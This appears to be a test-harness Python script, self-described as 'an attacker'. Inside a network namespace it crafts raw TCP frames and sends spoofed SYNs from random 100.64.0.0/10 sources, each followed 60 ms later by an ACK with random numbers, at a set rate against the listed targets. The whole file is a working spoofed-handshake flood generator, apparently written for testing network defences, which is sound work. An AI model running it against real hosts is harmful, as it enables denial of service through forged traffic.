#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""handshakes.py NETNS INTERFACE DESTINATION-MAC RATE ADDRESS:PORT...: an attacker.

Sends RATE handshakes a second to the addresses in turn: a SYN from a random source in
100.64.0.0/10 and, 60 ms later, an ACK of that source with random numbers. No source answers what
comes back. Ends by SIGTERM and then prints how many handshakes it sent."""
import collections
import os
import random
import signal
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.dont_write_bytecode = True
import rows  # noqa: E402

AFTER_S = 0.06
SYN, ACK = 2, 16


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def frame(link, source, port, to, flags, seq, ack):
    """source: an integer; to: packed address and port."""
    address, to_port = to
    tcp = struct.pack(">HHIIBBHHH", port, to_port, seq, ack, 0x50, flags, 8192, 0, 0)
    pseudo = struct.pack(">I4sHH", source, address, 6, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(">BBHHHBBHI4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, source, address)
    return link + ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:] + tcp


def send(wire, data):
    while True:
        try:
            wire.send(data)
            return
        except BlockingIOError:
            time.sleep(0.001)


def attack(wire, link, rate, targets, ended):
    acks, sent = collections.deque(), 0
    begin = time.monotonic()
    while not ended:
        now = time.monotonic()
        if sent < (now - begin) * rate:
            source, port = 0x64400000 | random.getrandbits(22), random.randint(1024, 65535)
            to, seq = targets[sent % len(targets)], random.getrandbits(31)
            send(wire, frame(link, source, port, to, SYN, seq, 0))
            acks.append((now + AFTER_S, frame(link, source, port, to, ACK, seq + 1,
                                              random.getrandbits(32))))
            sent += 1
        elif not acks or acks[0][0] > now:
            time.sleep(0.001)
        while acks and acks[0][0] <= now:
            send(wire, acks.popleft()[1])
    for _, data in acks:
        send(wire, data)
    return sent


def main():
    netns, interface, mac, rate = sys.argv[1:5]
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    targets = [(socket.inet_aton(a), int(p)) for a, p in (t.split(":") for t in sys.argv[5:])]
    link = bytes.fromhex(mac.replace(":", "")) + b"\x02\x66\x66\x66\x66\x66\x08\x00"
    print(attack(rows.wire_open(netns, interface), link, int(rate), targets, ended))


main()
